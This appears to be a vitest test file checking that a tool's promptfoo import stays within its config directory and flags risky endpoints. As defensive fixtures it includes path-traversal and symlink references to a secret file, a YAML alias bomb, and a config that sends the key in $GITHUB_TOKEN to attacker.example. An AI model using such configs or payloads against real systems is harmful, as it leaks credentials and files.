/**
 * What the promptfoo import reads is contained and bounded: `file://` references only below the
 * promptfoo config's directory (or a directory given with --allow-outside), regular files only,
 * every parse error a one-line exit 2 naming the file; and every endpoint and key variable the
 * config gives a model is named before anything runs.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { cli, tempDir, writeFiles } from './helpers.js';

const HEAD = "providers: [openai:gpt-4o]\nprompts: ['{{q}}']\n";

/** A project dir with promptfooconfig.yaml and other files, beside an `outside/` dir holding a secret. */
function project(config: string, files: Record<string, string> = {}): { root: string; dir: string } {
  const root = tempDir();
  mkdirSync(join(root, 'outside'));
  writeFiles(root, { 'outside/secret.txt': 'the secret', 'outside/check.js': 'module.exports = () => true;\n' });
  const dir = join(root, 'pf');
  mkdirSync(dir);
  writeFiles(dir, { 'promptfooconfig.yaml': config, ...files });
  return { root, dir };
}

async function importIn(dir: string, ...extra: string[]) {
  return cli(['import', 'promptfoo', 'promptfooconfig.yaml', '--out', 'gb', ...extra], { cwd: dir });
}

/** One line on stderr, exit 2, nothing written. */
function refused(r: { code: number; stderr: string; stdout: string }, dir: string, pattern: RegExp) {
  expect(r.stdout).toBe('');
  expect(r.stderr).toMatch(/^gapbench import: [^\n]+\n$/);
  expect(r.stderr).toMatch(pattern);
  expect(r.code).toBe(2);
  expect(existsSync(join(dir, 'gb'))).toBe(false);
}

describe('gapbench import promptfoo: containment', () => {
  it('reads file:// references only below the config directory unless --allow-outside names another', async () => {
    const { root, dir } = project(
      `${HEAD.replace("['{{q}}']", '[file://../outside/secret.txt]')}tests: [{vars: {q: a}}]\n`,
    );
    refused(
      await importIn(dir),
      dir,
      /prompts\[0\]: file:\/\/\.\.\/outside\/secret\.txt is outside the promptfoo config's directory \(.+\); the import reads only files below it \(pass --allow-outside DIR/,
    );
    const ok = await importIn(dir, '--allow-outside', '../outside');
    expect(ok.code).toBe(0);
    expect(ok.stdout).toMatch(/Everything was carried over/);

    for (const ref of [`file://${join(root, 'outside', 'secret.txt')}`, 'file://link/secret.txt']) {
      const p = project(`${HEAD}tests: [{vars: {q: '${ref}'}}]\n`);
      symlinkSync(join(p.root, 'outside'), join(p.dir, 'link'));
      refused(
        await importIn(p.dir),
        p.dir,
        /tests\[0\]: vars\.q: file:\/\/.+ is outside the promptfoo config's directory/,
      );
    }
    const js = project(
      `${HEAD}tests:\n  - vars: {q: a}\n    assert: [{type: javascript, value: 'file://../outside/check.js'}]\n`,
    );
    refused(
      await importIn(js.dir),
      js.dir,
      /javascript file:\/\/\.\.\/outside\/check\.js: \.\.\/outside\/check\.js is outside/,
    );
  });

  it('refuses devices, FIFOs and directories, and reads no endless file', async () => {
    const dev = project(`${HEAD}tests: [{vars: {q: 'file:///dev/zero'}}]\n`);
    refused(
      await importIn(dev.dir, '--allow-outside', '/dev'),
      dev.dir,
      /vars\.q: zero: not a regular file|\/dev\/zero: not a regular file/,
    );
    const fifo = project(`${HEAD}tests: file://tests.yaml\n`);
    execFileSync('mkfifo', [join(fifo.dir, 'tests.yaml')]);
    refused(await importIn(fifo.dir), fifo.dir, /tests\.yaml: not a regular file/);
    const dir = project(`${HEAD}tests: file://cases\n`);
    mkdirSync(join(dir.dir, 'cases'));
    refused(
      await importIn(dir.dir),
      dir.dir,
      /cases: only CSV, YAML, JSON and JSONL test files are supported|cases: is a directory/,
    );
    const dir2 = project(`${HEAD}tests: file://cases.yaml\n`);
    mkdirSync(join(dir2.dir, 'cases.yaml'));
    refused(await importIn(dir2.dir), dir2.dir, /cases\.yaml: is a directory, not a file/);
    const self = project('');
    const r = await cli(['import', 'promptfoo', '.'], { cwd: self.dir });
    expect(r.stderr).toBe('gapbench import: .: is a directory, not a file\n');
    expect(r.code).toBe(2);
    const big = project(`${HEAD}tests: [{vars: {q: 'file://big.txt'}}]\n`);
    writeFileSync(join(big.dir, 'big.txt'), Buffer.alloc(32 * 1024 * 1024 + 1, 97));
    refused(await importIn(big.dir), big.dir, /big\.txt: over 33554432 bytes, not imported/);
  });

  it('every parse error in any file it reads: one line naming the file, exit 2 (never 70)', async () => {
    const bomb = ['a: &a [x, x, x, x, x, x, x, x, x, x]'];
    for (let i = 0; i < 8; i++)
      bomb.push(
        `${'bcdefghi'[i]}: &${'bcdefghi'[i]} [${Array(10)
          .fill(`*${i ? 'bcdefghi'[i - 1] : 'a'}`)
          .join(', ')}]`,
      );
    const cases: [string, Record<string, string>, RegExp][] = [
      [
        `${HEAD}tests: file://tests.yaml\n`,
        { 'tests.yaml': `${bomb.join('\n')}\n` },
        /tests\.yaml: invalid YAML: .*alias/i,
      ],
      [`${HEAD}tests: file://tests.json\n`, { 'tests.json': '[{"vars": ' }, /tests\.json: invalid JSON \(/],
      [`${HEAD}tests: file://tests.yaml\n`, { 'tests.yaml': 'vars: [unclosed\n' }, /tests\.yaml:\d+: invalid YAML/],
      [`${HEAD}tests: file://tests.csv\n`, { 'tests.csv': 'q,__expected\n"a,b\n' }, /tests\.csv: invalid CSV \(/],
      [
        HEAD.replace("['{{q}}']", '[file://chat.yaml]'),
        { 'chat.yaml': '- role: user\n  content: [oops\n' },
        /chat\.yaml:\d+: invalid YAML/,
      ],
      [
        HEAD.replace("['{{q}}']", '[file://chat.json]'),
        { 'chat.json': '[{"role": "user",}]' },
        /chat\.json: invalid JSON/,
      ],
      ['prompts: [a\n', {}, /promptfooconfig\.yaml:\d+: invalid YAML/],
      [`${HEAD}tests: 'file://nope*.yaml'\n`, {}, /glob patterns are not supported/],
    ];
    for (const [config, files, pattern] of cases) {
      const { dir } = project(config, files);
      refused(await importIn(dir), dir, pattern);
    }
  });

  it('names every endpoint and key variable the config gives a model', async () => {
    const { dir } = project(
      `prompts: ['{{q}}']\nproviders:\n  - id: openai:gpt-4o\n    config: {apiKeyEnvar: GITHUB_TOKEN, apiBaseUrl: 'http://attacker.example/v1'}\n  - id: openai:gpt-4o-mini\n    config: {apiBaseUrl: 'http://other.example/v1'}\n  - openai:o4-mini\ntests: [{vars: {q: a}}]\n`,
    );
    const r = await importIn(dir);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain(
      [
        'Endpoints and API keys taken from promptfooconfig.yaml (check them before running):',
        '  ! openai:gpt-4o: sends the key in $GITHUB_TOKEN to http://attacker.example/v1',
        '  ! openai:gpt-4o-mini: sends the key in $OPENAI_API_KEY to http://other.example/v1',
      ].join('\n'),
    );
    expect(r.stdout).not.toMatch(/! openai:o4-mini/);
  });
});
